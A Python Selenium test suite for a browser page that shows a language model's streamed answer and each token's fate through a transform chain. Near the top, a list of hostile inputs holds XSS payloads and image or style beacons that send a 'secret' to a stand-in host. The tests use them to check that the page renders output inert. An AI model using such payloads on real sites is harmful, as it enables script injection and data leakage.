"""The page in Chromium: what it shows, what it lets a model do, and who can use it."""

from __future__ import annotations

import pytest

from streamkit.testing import EmulatedEndpoint, ScriptedToken
from streamkit.transforms import RepairText, ScrubEos, SkipSpecialTokens, StopSequences

CHAIN = (RepairText(byte_pieces=True), ScrubEos(), SkipSpecialTokens(), StopSequences("\nUser:"))

HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    '<a href="javascript:alert(3)">here</a>',
    "![now](http://beacon.invalid/?q=secret)",
    '<img src="http://beacon.invalid/pixel">',
    "<style>@import url(http://beacon.invalid/style)</style>",
    "\u202eabc\u0000\u001b[31m",
)


def _script(*lines):
    return [
        line if isinstance(line, ScriptedToken) else ScriptedToken(line, id=number)
        for number, line in enumerate(lines, 100)
    ]


def test_answer_and_fates(open_site, page):
    """The clean answer is shown, and below it each raw token by what became of it."""
    lines = _script(
        ScriptedToken("<s>", special=True), "Hi", "\n", "Us", "e", " it", "<0xC3>", "<0xA9>", ".\nUs", "er: x", "!"
    )
    with EmulatedEndpoint(lines) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
    assert page.answer == "Hi\nUse ité."
    assert page.chips == [
        ("<s>", "hidden"),
        ("Hi", "passed"),
        ("⏎", "released"),
        ("Us", "released"),
        ("e", "released"),
        ("·it", "passed"),
        ("<0xC3>", "joined"),
        ("<0xA9>", "joined"),
        (".⏎Us", "cut"),
        ("er:·x", "cut"),
    ]
    assert len(page.all("#timeline line")) == 10
    assert page.find("#first-token").text.endswith("ms")
    assert page.find("#reason").text == "stop_sequence ⏎User:"


def test_token_is_seen_while_it_is_held(open_site, page):
    """A token that may become a stop sequence is there before anybody knows what will become of it."""
    with EmulatedEndpoint(_script("Hi", "\nUs", "ing"), gate=True) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        page.send()
        model.release(2)
        page.wait(lambda: page.chips == [("Hi", "passed"), ("⏎Us", "held")])
        assert page.answer == "Hi"
        assert page.find("#answer").get_attribute("aria-busy") == "true"
        model.release()
        page.wait_for_status("Done")
    assert page.chips[1:] == [("⏎Us", "released"), ("ing", "passed")]
    assert page.answer == "Hi\nUsing"


def test_way_of_a_token_through_the_chain(open_site, page):
    """A chosen token shows its text behind each transform, and which one changed it."""
    with EmulatedEndpoint(_script(ScriptedToken("<s>", special=True), "Hi")) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
    page.find("#token-0").click()
    assert "hidden by SkipSpecialTokens" in page.find("#detail").text
    rows = [row.text for row in page.all("#detail tr")]
    assert rows == [
        "the model <s>",
        "RepairText <s>",
        "ScrubEos <s>",
        "SkipSpecialTokens no text",
        "StopSequences no text",
    ]
    assert page.find("#detail [data-did=true] th").text == "SkipSpecialTokens"


def test_parameters_reach_the_model(open_site, page):
    """What is set in the form is asked of the model, and a stop sequence is cut."""
    with EmulatedEndpoint(_script("one", "\ntwo", " three")) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        for name, value in {"max-new-tokens": "7", "temperature": "0.5", "stop": r"\ntwo|never"}.items():
            page.find(f"#{name}").clear()
            page.find(f"#{name}").send_keys(value)
        page.send("How?")
        page.wait_for_status("Done")
        asked = model.requests[-1].body
    assert page.answer == "one"
    assert asked["inputs"] == "How?"
    assert (asked["parameters"]["max_new_tokens"], asked["parameters"]["temperature"]) == (7, 0.5)


def test_hostile_output_stays_text(open_site, page):
    """Markup, scripts and image beacons of a model are shown as they are; nothing runs, and nothing is asked for."""
    from selenium.common.exceptions import NoAlertPresentException

    with EmulatedEndpoint(_script(*HOSTILE)) as model, open_site(model) as site:
        page.open(site.url)
        page.send("<b>x</b>")
        page.wait_for_status("Done")
        for chip in page.all("#tokens .chip"):
            chip.click()
        asked_for = page.asked_for
    assert page.answer == "".join(HOSTILE)
    with pytest.raises(NoAlertPresentException):
        page.browser.switch_to.alert.accept()
    assert not page.all("main img, main script, main a, main style, main iframe")
    assert {url for url in asked_for if not url.startswith(f"{site.url}/")} == set()
    assert page.browser.get_log("browser") == []


def test_policy_stops_markup_that_got_in(open_site, page):
    """Were a text made HTML of all the same, the browser would neither run it nor ask for anything."""
    from selenium.common.exceptions import NoAlertPresentException

    with EmulatedEndpoint() as model, open_site(model) as site:
        page.open(site.url)
        markup = "".join(HOSTILE) + f'<img src="{model.url}/pixel" onerror="alert(4)"><p style="color:red">x</p>'
        page.browser.execute_script("document.querySelector('#answer').innerHTML = arguments[0]", markup)
        refused = page.browser.execute_async_script(
            "fetch(arguments[0], {mode: 'no-cors'}).then(() => arguments[1](false), () => arguments[1](true))",
            f"{model.url}/health",
        )
        page.wait(lambda: any("style" in entry["message"] for entry in page.browser.get_log("browser")))
        assert refused
        assert model.requests == []
    with pytest.raises(NoAlertPresentException):
        page.browser.switch_to.alert.accept()


@pytest.mark.parametrize("how", ["button", "Escape"])
def test_stop_reaches_the_model(open_site, page, how):
    """Stop ends the answer here and at the model, and keeps what has been said."""
    with EmulatedEndpoint(["word "] * 100, gate=True) as model, open_site(model) as site:
        page.open(site.url)
        page.send()
        seen = model.wait_for_request()
        model.release(3)
        page.wait(lambda: page.answer == "word word word ")
        if how == "button":
            page.find("#stop-button").click()
        else:
            page.find("#prompt").send_keys("\ue00c")
        assert seen.client_left.wait(1)
        page.wait_for_status("Stopped after 3 tokens")
    assert page.answer == "word word word "
    assert page.find("#answer").get_attribute("aria-busy") == "false"
    assert not page.find("#stop-button").is_enabled()


def test_reload_resumes(open_site, page):
    """A page that is loaded again in the middle of an answer shows it whole, with each token once, and can stop it."""
    with (
        EmulatedEndpoint(["word "] * 100, gate=True) as model,
        open_site(model, resumable=True) as site,
    ):
        page.open(site.url)
        page.send("Again?")
        seen = model.wait_for_request()
        model.release(3)
        page.wait(lambda: page.answer == "word word word ")
        page.browser.refresh()
        page.wait(lambda: page.answer == "word word word ")
        assert page.find("#prompt").get_property("value") == "Again?"
        model.release(2)
        page.wait(lambda: len(page.chips) == 5)
        assert page.answer == "word " * 5
        assert not seen.client_left.is_set()
        page.find("#stop-button").click()
        assert seen.client_left.wait(1)
        page.browser.refresh()
        page.wait_for_status("stopped")
        assert page.answer == "word " * 5
        assert len(model.requests) == 1


@pytest.mark.parametrize("resumable", [True, False])
def test_stop_before_the_first_token(open_site, page, resumable):
    """Stop reaches the model while it thinks, whether the gateway keeps answers or not."""
    with EmulatedEndpoint(["word "], gate=True) as model, open_site(model, resumable=resumable) as site:
        page.open(site.url)
        page.send()
        seen = model.wait_for_request()
        page.find("#stop-button").click()
        assert seen.client_left.wait(1)
        page.wait_for_status("Stopped after 0 tokens")


def test_reload_resumes_nothing_elsewhere(open_site, page):
    """Where the gateway keeps no answers, a page that is loaded again starts anew, and asks for nothing."""
    with EmulatedEndpoint(_script("Hi")) as model, open_site(model) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
        page.browser.refresh()
        page.wait(lambda: page.all("#pipeline option"))
        assert page.status == "Nothing has been asked yet."
        assert page.browser.get_log("browser") == []


def test_failures_are_told(open_site, page):
    """A model that cannot be reached is told in a sentence, as an error."""
    with EmulatedEndpoint() as model:
        pass
    with EmulatedEndpoint() as alive, open_site(alive) as site:
        page.open(site.url)
        alive.stop()
        page.send()
        page.wait_for_status("The model's server cannot be reached.")
    assert page.find("#status").get_attribute("data-kind") == "error"
    assert model.requests == []


def test_key_is_asked_for_and_not_kept(open_site, page, monkeypatch):
    """A gateway with keys serves the page to all and answers to those with a key, which no storage keeps."""
    monkeypatch.setenv("PLAYGROUND_KEY", "k-123")
    with (
        EmulatedEndpoint(_script("Hi")) as model,
        open_site(model, keys={"one": {"env": "PLAYGROUND_KEY"}}) as site,
    ):
        page.open(site.url)
        assert page.all("#pipeline option") == []
        page.find("#key").send_keys("k-123\t")
        page.wait(lambda: page.all("#pipeline option"))
        page.send()
        page.wait_for_status("Done")
        kept = page.browser.execute_script(
            "return JSON.stringify([{...localStorage}, {...sessionStorage}]) + document.cookie + location"
        )
    assert page.answer == "Hi"
    assert "k-123" not in kept


def test_page_works_by_keyboard(open_site, page):
    """Tab passes the controls in order, Ctrl+Enter sends, and the arrows go from token to token."""
    from selenium.webdriver import ActionChains, Keys

    with EmulatedEndpoint(_script("a", "b", "c")) as model, open_site(model) as site:
        page.open(site.url)
        order = []
        for _ in range(7):
            ActionChains(page.browser).send_keys(Keys.TAB).perform()
            order.append(page.browser.switch_to.active_element.get_attribute("id"))
        assert order == ["prompt", "pipeline", "max-new-tokens", "temperature", "stop", "chat", "send"]
        page.find("#prompt").send_keys(Keys.CONTROL, Keys.ENTER)
        page.wait_for_status("Done")
    page.find("#token-0").send_keys(Keys.ARROW_RIGHT, Keys.ARROW_RIGHT)
    assert page.browser.switch_to.active_element.get_attribute("id") == "token-2"
    assert page.find("#token-2").get_attribute("aria-selected") == "true"
    assert len(page.all('#tokens [tabindex="0"]')) == 1


def test_everything_has_a_name(open_site, page):
    """A screen reader can name each control, and hears status and answer without being told each token."""
    with EmulatedEndpoint(_script("a", "\n")) as model, open_site(model) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
    for control in page.all("textarea, select, input:not(#key), button, [role=option], [role=listbox], [role=img]"):
        assert control.accessible_name, control.get_attribute("outerHTML")
    assert page.find("#token-1").accessible_name == "⏎, passed"
    assert page.find("#status").aria_role == "status"
    assert page.find("#answer").get_attribute("aria-live") == "polite"


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 390, 1280])
def test_page_fits_and_can_be_read(open_site, page, width, scheme):
    """No screen has to be scrolled sideways, and every text stands out by 4.5 to 1 (WCAG 2.2, 1.4.3)."""
    page.emulate(width, 800, scheme)
    with EmulatedEndpoint(_script("a", "x" * 200, "\nUser:")) as model, open_site(model, CHAIN) as site:
        page.open(site.url)
        page.send()
        page.wait_for_status("Done")
    page.find("#token-1").click()
    assert page.browser.execute_script("return document.documentElement.scrollWidth") <= width
    assert page.browser.execute_script(CONTRASTS) == []


CONTRASTS = """
const light = (color) => {
  const [r, g, b] = color.match(/[\\d.]+/g).slice(0, 3).map((c) => c / 255)
    .map((c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
  return 0.2126 * r + 0.7152 * g + 0.0722 * b;
};
const behind = (element) => {
  for (let each = element; each; each = each.parentElement) {
    const color = getComputedStyle(each).backgroundColor;
    if (!color.startsWith("rgba(0, 0, 0, 0)")) return color;
  }
  return "rgb(255, 255, 255)";
};
return [...document.querySelectorAll("body *")]
  .filter((each) => [...each.childNodes].some((node) => node.nodeType === 3 && node.data.trim()))
  .filter((each) => each.checkVisibility() && !each.disabled && each.localName !== "option" && !each.closest("svg"))
  .map((each) => {
    const [a, b] = [light(getComputedStyle(each).color), light(behind(each))].sort((x, y) => y - x);
    return [each.outerHTML.slice(0, 80), (a + 0.05) / (b + 0.05)];
  })
  .filter(([, ratio]) => ratio < 4.5);
"""
